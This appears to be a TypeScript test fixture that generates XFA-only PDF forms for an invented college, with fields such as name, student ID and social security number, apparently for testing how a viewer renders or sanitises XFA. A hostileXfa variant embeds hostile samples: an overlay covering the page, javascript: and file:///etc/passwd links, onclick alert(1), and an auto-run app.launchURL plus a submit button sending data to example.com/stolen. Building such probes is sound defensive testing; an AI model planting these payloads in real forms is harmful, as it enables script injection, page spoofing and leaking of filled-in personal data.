/** XFA-only forms of an invented school, as LiveCycle Designer writes them, in streams that any reader can open. */
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';

interface Written {
  /** Whether the file says that its pages are to be made from the XFA. */
  needsRendering?: boolean;
  /** Whether all parts are in one stream, which some servers write. */
  isOneStream?: boolean;
  /** Whether the file has a part with data. */
  hasData?: boolean;
  /** Whether it names fonts, without which pdf.js cannot lay it out. */
  hasFonts?: boolean;
  /** More of the template, in the place of its last field. */
  more?: string;
}

/** The page that readers show that do not know XFA. */
const WAIT = 'Please wait... If this message is not eventually replaced, your PDF viewer may not show this document.';

/** The form of an invented school; of its fields, some say what they want by name, others by tooltip or caption. */
export async function xfaForm({
  needsRendering = true,
  isOneStream = false,
  hasData = true,
  hasFonts = true,
  more = '',
}: Written = {}): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  document.addPage([612, 792]).drawText(WAIT, { x: 40, y: 700, size: 10, font });
  const { context } = document;
  const parts: [string, string][] = [
    ['xdp:xdp', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'],
    ['template', template(more)],
    ...(hasData ? [['datasets', DATA] as [string, string]] : []),
    ['/xdp:xdp', '</xdp:xdp>'],
  ];
  const stream = (text: string) => context.register(context.flateStream(new TextEncoder().encode(text)));
  const xfa = isOneStream
    ? stream(parts.map(([, text]) => text).join(''))
    : context.obj(parts.flatMap(([name, text]) => [PDFString.of(name), stream(text)]));
  const resources = hasFonts ? { DR: { Font: { Helv: font.ref } } } : {};
  const form = context.register(context.obj({ Fields: [], XFA: xfa, ...resources }));
  document.catalog.set(PDFName.of('AcroForm'), form);
  if (needsRendering) document.catalog.set(PDFName.of('NeedsRendering'), context.obj(true));
  return document.save({ useObjectStreams: false });
}

/** The same with words that try to load something, to cover our page, and to lead elsewhere. */
export const hostileXfa = (): Promise<Uint8Array> =>
  xfaForm({
    more: `<draw w="6in" h="1in"><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml">
<p style="background-image:url(//example.com/stolen.png);position:fixed;top:0;left:0;z-index:99">Read our help</p>
<p onclick="alert(1)"><a href="https://example.com/help">help</a><a href="http://example.com/plain">plain</a>
<a href="javascript:alert(1)">run</a><a href="file:///etc/passwd">file</a></p>
</body></exData></value></draw>
<draw w="1in" h="1in"><value><image href="https://example.com/stolen.png" contentType="image/png"/></value></draw>
<field name="Run" w="2in" h="0.3in"><ui><button/></ui>
<event activity="initialize"><script contentType="application/x-javascript">app.launchURL("https://example.com/stolen")</script></event>
</field>`,
  });

/** What the school wrote into it already. */
const DATA = `<xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><application>
<a1/><Email/><a2/><exams><a3/><a4/></exams><beside><a5/></beside><SSN/><Today/><Degree/><Term/><Terms/><Comments/>
<Office>Registrar</Office><Sign/></application></xfa:data></xfa:datasets>`;

/** A green field of 4 by 2 pixels (PNG). */
const ARMS = 'iVBORw0KGgoAAAANSUhEUgAAAAQAAAACCAIAAADwyuo0AAAAEElEQVR4nGMQCHCAIwZkDgA/mgUB2ZhOZQAAAABJRU5ErkJggg==';

const template = (more: string) => `<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
<subform name="application" layout="tb" locale="en_US">
<pageSet><pageArea name="Page1" id="Page1">
<contentArea x="0.5in" y="0.5in" w="7.5in" h="10in"/><medium stock="letter" short="8.5in" long="11in"/>
</pageArea></pageSet>
<draw w="0.5in" h="0.25in"><assist><speak>Arms of Example College</speak></assist>
<value><image contentType="image/png" aspect="fit">${ARMS}</image></value></draw>
${draw('Application for credit', { size: 16, level: 1 })}
${draw('Example College. Fill in what you know.')}
${field('a1', '<textEdit/>', { caption: 'Full legal name', isRequired: true })}
${field('Email', '<textEdit/>')}
${field('a2', '<textEdit/>', { caption: 'No.', tooltip: 'Student ID' })}
<subform name="exams" layout="lr-tb" w="7.5in">
${field('a3', '<textEdit/>', { caption: 'Exam code', width: 3.5 })}
${field('a4', '<dateTimeEdit/>', { caption: 'Date passed', width: 3.5 })}
</subform>
<subform name="beside" layout="position" w="7.5in" h="0.4in">
<draw name="words" x="0in" y="0.05in" w="1.6in" h="0.3in"><value><text>Name of the receiving school</text></value></draw>
<field name="a5" x="1.7in" y="0.05in" w="3in" h="0.3in">${UI('<textEdit/>')}</field>
</subform>
${field('SSN', '<textEdit/>', { caption: 'Social security number' })}
${field('Today', '<dateTimeEdit/>', { caption: "Today's date" })}
${field('Degree', '<choiceList/>', {
  caption: 'Degree',
  items:
    '<items><text>Associate</text><text>Bachelor</text></items><items save="1"><text>A</text><text>B</text></items>',
})}
<exclGroup name="Term" layout="lr-tb" w="7.5in">
${['Spring', 'Fall'].map((term) => check(term, 'round', term)).join('')}
</exclGroup>
${check('Terms', 'square', 'I agree to the terms')}
${field('Comments', '<textEdit multiLine="1"/>', { caption: 'Comments', height: 0.8 })}
${field('Office', '<textEdit/>', { caption: 'For office use', access: 'readOnly' })}
${field('Sign', '<signature/>', { caption: 'Signature' })}
<field name="Send" w="2in" h="0.3in"><ui><button/></ui><caption><value><text>Send by web</text></value></caption>
<event activity="click"><submit target="https://example.com/stolen"/></event></field>
${more}
</subform>
</template>`;

const UI = (ui: string) =>
  `<ui>${ui.replace('/>', '><border><edge thickness="0.5pt"/></border></')}${/^<(\w+)/.exec(ui)?.[1]}></ui>`;

interface About {
  caption?: string;
  tooltip?: string;
  isRequired?: boolean;
  access?: string;
  items?: string;
  /** In inches. */
  width?: number;
  height?: number;
}

const field = (
  name: string,
  ui: string,
  { caption, tooltip, isRequired, access = 'open', items = '', width = 6, height = 0.35 }: About = {},
) => `<field name="${name}" w="${width}in" h="${height}in" access="${access}">${UI(ui)}
<margin topInset="0.04in" bottomInset="0.04in"/>
${caption ? `<caption reserve="1.6in"><value><text>${caption}</text></value></caption>` : ''}
${items}${tooltip ? `<assist><toolTip>${tooltip}</toolTip></assist>` : ''}
${isRequired ? '<validate nullTest="error"/>' : ''}</field>`;

const check = (name: string, shape: string, caption: string) => `<field name="${name}" w="2.5in" h="0.3in">
<ui><checkButton shape="${shape}"><border><edge thickness="0.5pt"/></border></checkButton></ui>
<caption placement="right" reserve="2.2in"><value><text>${caption}</text></value></caption>
<items><text>${shape === 'round' ? name : '1'}</text><text>0</text></items></field>`;

const draw = (words: string, { size = 10, level = 0 } = {}) => `<draw w="7.5in" h="0.4in">
<font size="${size}pt" typeface="Arial"/>${level ? `<assist role="H${level}"/>` : ''}<value><text>${words}</text></value></draw>`;
